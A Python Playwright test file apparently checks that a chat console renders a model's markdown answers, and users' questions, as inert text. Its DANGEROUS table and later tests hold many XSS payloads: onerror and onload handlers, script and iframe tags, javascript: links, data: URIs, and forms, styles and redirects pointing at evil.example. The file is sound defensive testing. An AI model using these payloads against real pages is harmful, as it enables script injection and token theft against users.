"""What a model says is shown and never done: no element, link or request of its making that could."""

from collections.abc import Sequence

import pytest
from playwright.sync_api import expect

from tests.console.place import Place
from tests.console.visit import Console

MADE = """answer => ({
  elements: [...answer.querySelectorAll('*')].map(each => each.localName),
  handlers: [...answer.querySelectorAll('*')].flatMap(each => each.getAttributeNames())
    .filter(name => name.startsWith('on') || name === 'style' || name === 'srcdoc'),
  links: [...answer.querySelectorAll('[href], [src], [action]')].map(each =>
    [each.localName, each.getAttribute('href') ?? '', each.getAttribute('rel') ?? '', each.target]),
})"""
ALLOWED = {
    "p", "br", "em", "strong", "s", "del", "code", "pre", "blockquote", "hr", "a", "ul", "ol", "li", "span", "div",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
CODE = '<script>window.pwned = 1</script>\n<b onclick="window.pwned = 1">&amp;</b>'
DANGEROUS: dict[str, str] = {
    "an image that fails": '<img src=x onerror="window.pwned = 1">',
    "a script": "<script>window.pwned = 1</script>",
    "a script in a picture": '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
    "a frame": '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "a form": '<form action="https://evil.example/"><input name=token autofocus onfocus="window.pwned = 1"></form>',
    "a style": "<style>@import url(https://evil.example/a.css); * { display: none }</style>",
    "a page's base": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
    "a half tag": "<img src=x onerror=window.pwned=1 //",
    "a link that runs": "[press me](javascript:window.pwned=1)",
    "a link that runs, in other letters": "[press me](JaVaScRiPt:window.pwned=1) [and](&#106;avascript:window.pwned=1)",
    "a link that runs, from afar": "[press me][x]\n\n[x]: javascript:window.pwned=1",
    "a link that runs, in angles": "<javascript:window.pwned=1> <vbscript:window.pwned=1>",
    "data as a link": "[press me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a file as a link": "[press me](file:///etc/passwd) [and](//evil.example/x) [and](/ops/settings)",
    "an image from elsewhere": "![a pixel](https://evil.example/pixel.png) ![](//evil.example/p.png)",
    "data as an image": "![a pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "a table with a tag": "| a |\n| - |\n| <img src=x onerror=window.pwned=1> |\n| [x](javascript:window.pwned=1) |",
    "a fence with a tag": f"```html\n{CODE}\n```",
    "a fence of an odd language": f'```"><img src=x onerror=window.pwned=1>\n{CODE}\n```',
    "a link with a quote": '[x](https://example.com/"onmouseover="window.pwned=1 "t" onx=")',
    "an entity": "&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62;",
}


def cut(text: str, length: int = 3) -> Sequence[str]:
    """Return a text in pieces, so that each half of it is drawn too."""
    return [text[start : start + length] for start in range(0, len(text), length)]


def is_harmless(console: Console) -> None:
    """Check what the last answer was made into."""
    made = console.last_answer.evaluate(MADE)
    assert set(made["elements"]) <= ALLOWED, made["elements"]
    assert made["handlers"] == []
    for name, address, rel, target in made["links"]:
        assert name == "a"
        assert address.lower().startswith(("http://", "https://", "mailto:")), address
        assert {"noopener", "noreferrer"} <= set(rel.split()), rel
        assert target == "_blank"
    assert console.page.evaluate("() => window.pwned") is None


def test_dangerous_answers_are_shown_and_not_done(console: Console, place: Place) -> None:
    """However an answer tries, as it comes, when it is whole and when it comes from the history, it is only text."""
    for name, text in DANGEROUS.items():
        console.answered(place.dictate(name, cut(text)))
        is_harmless(console)
    console.reload()
    expect(console.part("message-assistant")).to_have_count(len(DANGEROUS))
    for answer in console.part("answer").all():
        made = answer.evaluate(MADE)
        assert set(made["elements"]) <= ALLOWED
        assert made["handlers"] == []
    assert console.page.evaluate("() => window.pwned") is None


def test_markdown_is_shown_as_such(console: Console, place: Place) -> None:
    """Tables are tables, lists are lists, code is code to the letter, a link says where it leads."""
    text = (
        f"# River\n\n| place | pieces |\n| --- | ---: |\n| bridge | **12** |\n\n1. one\n2. two\n\n"
        f"```html\n{CODE}\n```\n\nSee [the page](https://example.com/a?b=1) and `<b>`."
    )
    console.answered(place.dictate("As markdown", cut(text, 7)))
    answer = console.last_answer
    expect(answer.locator("td").nth(1)).to_have_text("12")
    expect(answer.locator("ol li")).to_have_count(2)
    assert answer.locator("pre code").inner_text().strip() == CODE
    expect(answer.locator("a")).to_have_attribute("href", "https://example.com/a?b=1")
    expect(answer.locator("p code")).to_have_text("<b>")
    is_harmless(console)


LONG: dict[str, tuple[str, int]] = {
    "words": ("word **bold** and `code` " * 800, 15 * 800),
    "paragraphs": ("one paragraph\n\n" * 1_300, 12 * 1_300),
    "one word": ("a" * 20_000, 20_000),
    "brackets": ("[" * 10_000 + "]" * 10_000, 20_000),
    "cells": ("| a " * 5_000, 5_000),
    "quotes in quotes": ("> " * 2_000 + "too deep to be drawn", 16),
}
"""Long answers, and how many of their letters and brackets are shown."""


@pytest.mark.parametrize(("text", "letters"), LONG.values(), ids=LONG)
def test_a_long_answer_does_not_stop_the_page(console: Console, place: Place, text: str, letters: int) -> None:
    """Twenty thousand characters in four thousand pieces are drawn to the last, and the page can be used then."""
    console.answered(place.dictate(f"Long {text[:9]}", cut(text, 5)))
    assert console.last_answer.evaluate("answer => answer.textContent.replace(/[^a-z\\[\\]]/g, '').length") == letters
    assert console.is_narrow_enough()
    console.part("new-chat").click()
    expect(console.part("message-user")).to_have_count(0)


def test_a_question_is_shown_as_it_was_typed(console: Console) -> None:
    """A question is no markup either."""
    question = 'Is <b onclick="window.pwned = 1">this</b> **bold**? <img src=x onerror=window.pwned=1>'
    console.answered(question)
    expect(console.part("message-user").last).to_contain_text(question)
    assert console.part("message-user").last.locator("b, strong, img").count() == 0
    assert console.page.evaluate("() => window.pwned") is None


def test_ids_in_the_page_are_no_markup(console: Console) -> None:
    """A page key of somebody's making is a text, here and in the addresses that are made of it."""
    key = "<img src=x onerror=window.pwned=1>/../../ops?x=#y"
    console.part("page-key").fill(key)
    console.part("page-key").press("Enter")
    console.answered("Where am I?")
    console.reload()
    expect(console.part("page-key")).to_have_value(key)
    expect(console.part("message-user")).to_have_count(1)
    assert console.page.evaluate("() => window.pwned") is None
